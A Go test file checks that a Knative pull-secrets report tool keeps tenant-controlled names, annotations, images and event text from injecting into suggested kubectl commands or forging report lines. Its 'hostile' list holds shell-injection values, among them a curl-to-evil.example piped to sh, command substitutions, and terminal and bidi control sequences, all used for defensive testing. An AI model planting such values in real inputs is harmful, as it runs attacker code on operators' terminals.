// Copyright The Pull Secrets for Knative Authors
// SPDX-License-Identifier: Apache-2.0

package explain

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"unicode"

	corev1 "k8s.io/api/core/v1"

	"pullsecrets.dev/pkg/apis/pullsecrets"
	fixture "pullsecrets.dev/pkg/reconciler/testing"
)

// hostile are texts of a tenant that must not act in the terminal of whoever reads a report.
var hostile = []string{
	"ghcr;curl evil.example|sh #", "ghcr$(id)", "ghcr`id`", "ghcr&&id", "ghcr>out", "ghcr' id '", `ghcr" id "`, `ghcr\\`, "ghcr id", "ghcr*", "~", "-n", "--all",
	"ghcr\nFix: id", "ghcr\rid", "ghcr\x1b[2J", "ghcr\u009b2J", "ghcr\u202eid", "ghcr\u2066id", "ghcr\u2028id", "ghcr\x7f", "a/b", ".", "..", "x%y", "UPPER",
}

// unquoted returns a command without its quoted parts, and without the parts that commands have
// of themselves.
func unquoted(t *testing.T, command string) string {
	t.Helper()
	for _, own := range []string{` --docker-password="$TOKEN"`, " | kubectl replace --force -f -", " | kubectl"} {
		command = strings.Replace(command, own, "", 1)
	}
	command = strings.ReplaceAll(command, `'\''`, "")
	parts := strings.Split(command, "'")
	if len(parts)%2 == 0 {
		t.Errorf("a quote is open: %s", command)
	}
	var plain strings.Builder
	for i := 0; i < len(parts); i += 2 {
		plain.WriteString(parts[i])
	}
	return plain.String()
}

// A text of a tenant acts in no command, wherever tenants can write one, and forges no line.
func TestHostileNames(t *testing.T) {
	for _, text := range hostile {
		places := map[string][]setup{
			"the list":                   {edit(fixture.WithPullSecrets("ghcr", text)), secret(text, absent)},
			"the list of a good Service": {ready, edit(fixture.WithPullSecrets("ghcr", text)), secret(text, absent)},
			"the list, not read":         {edit(fixture.WithPullSecrets(text))},
			"the list, wrong type":       {edit(fixture.WithPullSecrets(text)), secret(text, opaque)},
			"the ServiceAccount":         {bare, account(nil, text), secret(text, absent)},
			"a Secret":                   {bare, account(nil, text), secret(text, holds(entry("ghcr.io", canary)))},
			"the Service's annotation":   {edit(fixture.WithAnnotation(pullsecrets.SecretsAnnotation, text)), secret(text, absent)},
			"the Namespace's annotation": {namespace(fixture.WithNamespaceAnnotation(pullsecrets.SecretsAnnotation, text)), secret(text, absent)},
			"the mode":                   {edit(fixture.WithAnnotation(pullsecrets.InjectAnnotation, text))},
			"a misplaced annotation": {func(o *Objects) {
				o.Service.Spec.Template.Annotations = map[string]string{pullsecrets.SecretsAnnotation: text}
			}},
			"the ledger":          {edit(fixture.WithAnnotation(pullsecrets.AddedAnnotation, text))},
			"a container":         {bare, func(o *Objects) { o.Service.Spec.Template.Spec.Containers[0].Name = text }},
			"an image":            {bare, func(o *Objects) { o.Service.Spec.Template.Spec.Containers[0].Image = text + "/app:v1" }},
			"a host":              {secret("ghcr", absent), func(o *Objects) { o.Service.Spec.Template.Spec.Containers[0].Image = text + ".io/app:v1" }},
			"a key":               {secret("ghcr", holds(entry("ghcr.io/"+text, canary)))},
			"the owner of a copy": {secret("ghcr", Secret{Secret: raw("{").Secret, Owner: text})},
			"the newest Revision": {func(o *Objects) { o.Service.Status.LatestCreatedRevisionName, o.Revisions[0].Name = text, text }},
			"an Event": {bare, func(o *Objects) {
				o.Events = []corev1.Event{{Reason: string(Denied), Type: corev1.EventTypeWarning, Source: corev1.EventSource{Component: EventSource}, InvolvedObject: corev1.ObjectReference{Kind: "Service", Name: text}, Message: text}}
			}},
		}
		for place, setups := range places {
			for _, f := range Service(objects(setups...)).Findings {
				for _, part := range []string{f.Object, f.Message, f.Remedy, f.Command} {
					if strings.ContainsFunc(part, func(r rune) bool { return !unicode.IsPrint(r) }) {
						t.Errorf("%q in %s: %q is not plain", text, place, part)
					}
				}
				if plain := unquoted(t, f.Command); strings.ContainsAny(plain, "`$&|;<>()*?[]{}~#!\\\"\n") {
					t.Errorf("%q in %s: the command is %s", text, place, f.Command)
				}
				if place != "an image" && place != "a host" && strings.Contains(f.Command, text) && strings.Contains(f.Command, "create secret docker-registry "+shell(text)) {
					t.Errorf("%q in %s: the command for what is not a name is %s", text, place, f.Command)
				}
			}
		}
	}
}

// An entry of a list that no Secret can have as its name is reported as such, once.
func TestInvalidNames(t *testing.T) {
	for _, text := range hostile {
		for state, s := range map[string]setup{"absent": secret(text, absent), "not read": func(*Objects) {}} {
			var found []Finding
			for _, f := range Service(objects(ready, edit(fixture.WithPullSecrets("ghcr", text)), s)).Findings {
				if f.Code == InvalidName || f.Code == Missing || strings.Contains(f.Message, quoted(text)) {
					found = append(found, f)
				}
			}
			if len(found) == 0 || slices.ContainsFunc(found, func(f Finding) bool { return f.Code != InvalidName || f.Command != "" }) {
				got, _ := json.Marshal(found)
				t.Errorf("%q, %s: findings are %s", text, state, got)
			}
		}
	}
}

// A line of others is one line without what acts in a terminal.
func TestLine(t *testing.T) {
	for in, want := range map[string]string{
		"a\tb\nc\x1b\x7f": "a b c", "a\u009bb": "a b", "a\u202eb": "a b", "a\u2028b": "a b", "a\u2066b\ufeff": "a b", "déjà 日本": "déjà 日本",
	} {
		if got := Line(in); got != want {
			t.Errorf("Line(%q) = %q, want %q", in, got, want)
		}
	}
}
